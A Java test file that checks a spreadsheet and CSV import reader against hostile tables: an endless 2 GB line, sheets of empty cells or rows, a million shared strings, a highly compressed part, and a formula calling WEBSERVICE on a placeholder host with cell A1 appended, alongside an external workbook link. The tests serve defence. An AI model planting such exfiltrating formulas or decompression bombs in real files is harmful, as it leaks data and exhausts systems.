package org.riguardo.exports.table;

import static org.assertj.core.api.Assertions.assertThat;

import com.sun.management.ThreadMXBean;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.lang.management.ManagementFactory;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.junit.jupiter.api.Test;
import org.riguardo.api.exports.Content;
import org.riguardo.api.exports.Reading;
import org.riguardo.exports.Samples;

/** Tables made to exhaust whoever reads them: refused, or read, in about a second and without much memory. */
class HostileTablesTest {

    private static final long CPU_NANOS = 6_000_000_000L;
    private static final String HEADING = "Cliente;Numero;Data;Importo\n";

    @Test
    void aLineOfTwoGigabytesIsRefusedAfterItsFirstMegabyte() throws IOException {
        for (String piece : new String[] {"x", ";", "\"", "1;"}) {
            Endless content = new Endless(HEADING + "Rossi;1;", piece, 2L << 30);
            assertThat(new TableFormat().recognises(content)).isTrue();
            assertThat(readWithin(content)).as(piece).isInstanceOf(Reading.Refused.class);
            assertThat(content.read).as(piece).isLessThan(4 << 20);
        }
    }

    @Test
    void aSheetOfNothingButEmptyCellsIsRefused() throws IOException {
        StringBuilder row = new StringBuilder("<row>");
        for (int column = 0; column < 16_384; column++) {
            row.append("<c/>");
        }
        byte[] book = book(row.append("</row>").toString().repeat(200), "");
        assertThat(readWithin(Samples.content("x", book))).isInstanceOf(Reading.Refused.class);
    }

    @Test
    void aMillionEmptyRowsAreNoTable() throws IOException {
        byte[] book = book("<row></row>".repeat(1_000_000), "");
        assertThat(readWithin(Samples.content("x", book))).isInstanceOf(Reading.Refused.class);
    }

    @Test
    void aMillionSharedTextsAreKeptSmallOrRefused() throws IOException {
        StringBuilder texts = new StringBuilder();
        for (int text = 0; text < 1_000_000; text++) {
            texts.append("<si><t>").append(text).append("</t></si>");
        }
        byte[] book = book("<row><c t=\"s\"><v>7</v></c></row>", texts.toString());
        assertThat(readWithin(Samples.content("x", book))).isInstanceOf(Reading.Refused.class);
    }

    @Test
    void aPartThatUnpacksAThousandTimesIsRefused() throws IOException {
        byte[] book = book("<row><c t=\"inlineStr\"><is><t>" + "0".repeat(50 << 20) + "</t></is></c></row>", "");
        assertThat(book.length).isLessThan(1 << 20);
        assertThat(readWithin(Samples.content("x", book))).isInstanceOf(Reading.Refused.class);
    }

    @Test
    void formulasAreNotComputedAndNothingOutsideIsOpened() throws IOException {
        String rows = row("Cliente", "Numero", "Data", "Importo")
                + "<row>" + cell("Rossi") + cell("1") + cell("25/03/2026")
                + "<c t=\"str\"><f>WEBSERVICE(\"http://198.51.100.1/\"&amp;A1)</f><v>10,00</v></c></row>";
        Reading.Read read = Tables.ok(readWithin(Samples.content("x", book(rows, ""))));
        assertThat(read.facts().sums().get(0).total()).isEqualTo("10.00");
    }

    private static Reading readWithin(Content content) throws IOException {
        ThreadMXBean threads = (ThreadMXBean) ManagementFactory.getThreadMXBean();
        long before = threads.getCurrentThreadCpuTime();
        Reading reading = new TableFormat().read(content, Samples.VOUCHED);
        assertThat(threads.getCurrentThreadCpuTime() - before).isLessThan(CPU_NANOS);
        return reading;
    }

    private static String row(String... cells) {
        StringBuilder row = new StringBuilder("<row>");
        for (String cell : cells) {
            row.append(cell(cell));
        }
        return row.append("</row>").toString();
    }

    private static String cell(String text) {
        return "<c t=\"inlineStr\"><is><t>" + text + "</t></is></c>";
    }

    private static byte[] book(String rows, String texts) throws IOException {
        String relations = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
        String type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            entry(zip, "[Content_Types].xml", "<Types/>");
            entry(
                    zip,
                    "_rels/.rels",
                    relations + "<Relationship Id=\"a\" Type=\"" + type
                            + "officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>");
            entry(
                    zip,
                    "xl/workbook.xml",
                    "<workbook xmlns:r=\"x\"><sheets><sheet name=\"a\" sheetId=\"1\" r:id=\"s\"/></sheets></workbook>");
            entry(
                    zip,
                    "xl/_rels/workbook.xml.rels",
                    relations + "<Relationship Id=\"s\" Type=\"" + type + "worksheet\" Target=\"sheet.xml\"/>"
                            + "<Relationship Id=\"t\" Type=\"" + type + "sharedStrings\" Target=\"texts.xml\"/>"
                            + "<Relationship Id=\"e\" Type=\"" + type
                            + "externalLink\" Target=\"http://198.51.100.1/x.xlsx\" TargetMode=\"External\"/></Relationships>");
            entry(zip, "xl/sheet.xml", "<worksheet><sheetData>" + rows + "</sheetData></worksheet>");
            entry(zip, "xl/texts.xml", "<sst>" + texts + "</sst>");
        }
        return bytes.toByteArray();
    }

    private static void entry(ZipOutputStream zip, String name, String text) throws IOException {
        zip.putNextEntry(new ZipEntry(name));
        zip.write(text.getBytes(StandardCharsets.UTF_8));
        zip.closeEntry();
    }

    /** A text that goes on with the same piece for gigabytes, of which no byte is held. */
    private static final class Endless implements Content {

        private final byte[] head;
        private final byte[] piece;
        private final long size;
        private long read;

        Endless(String head, String piece, long size) {
            this.head = head.getBytes(StandardCharsets.UTF_8);
            this.piece = piece.getBytes(StandardCharsets.UTF_8);
            this.size = size;
        }

        @Override
        public String name() {
            return "endless.csv";
        }

        @Override
        public long size() {
            return size;
        }

        @Override
        public Instant lastModified() {
            return Instant.EPOCH;
        }

        @Override
        public InputStream open() {
            return new InputStream() {
                private long at;

                @Override
                public int read() {
                    if (at >= size) {
                        return -1;
                    }
                    read++;
                    return at < head.length ? head[(int) at++] : piece[(int) ((at++ - head.length) % piece.length)];
                }

                @Override
                public long skip(long bytes) {
                    at += bytes;
                    return bytes;
                }
            };
        }
    }
}
